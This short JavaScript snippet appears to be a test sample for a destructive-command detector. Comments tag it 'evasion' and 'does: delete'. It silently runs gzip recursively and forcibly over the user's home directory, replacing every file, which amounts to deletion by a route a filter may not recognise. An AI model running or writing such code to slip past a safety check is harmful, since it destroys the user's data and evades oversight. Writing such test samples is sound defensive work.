// evasion: gzip --recursive --force over $HOME (each file replaced by its .gz)
// grade: medium; does: delete
const { spawnSync } = require("child_process");
spawnSync("gzip", ["--recursive", "--force", process.env.HOME], { stdio: "ignore" });
